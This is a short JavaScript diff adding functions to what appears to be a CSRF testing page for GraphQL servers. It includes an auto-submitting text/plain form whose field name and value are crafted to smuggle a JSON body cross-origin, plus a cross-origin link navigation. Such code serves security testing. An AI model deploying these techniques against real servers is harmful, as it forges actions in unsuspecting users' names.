@@ -211,3 +211,21 @@ async function attack(server) {
   await Promise.all(attempts.map(([, start], i) => settled(() => start(names[i]))));
   return names;
 }
+
+function followLink(server) {
+  location = `${server}/graphql?${query(`link from ${location.origin}`)}`;
+}
+
+function submitForm(server) {
+  const name = `form from ${location.origin}`;
+  const action = `${server}/graphql?${query(name)}`;
+  const form = tag("form", { action, method: "POST", enctype: "text/plain" });
+  form.append(tag("textarea", { name: body(name).replace(/}$/, ', "x": "'), value: '"}' }));
+  document.body.append(form);
+  form.submit();
+}
+
+function report(name) {
+  const headers = { "Content-Type": "application/json" };
+  return fetch("/graphql", { method: "POST", headers, body: body(name) });
+}
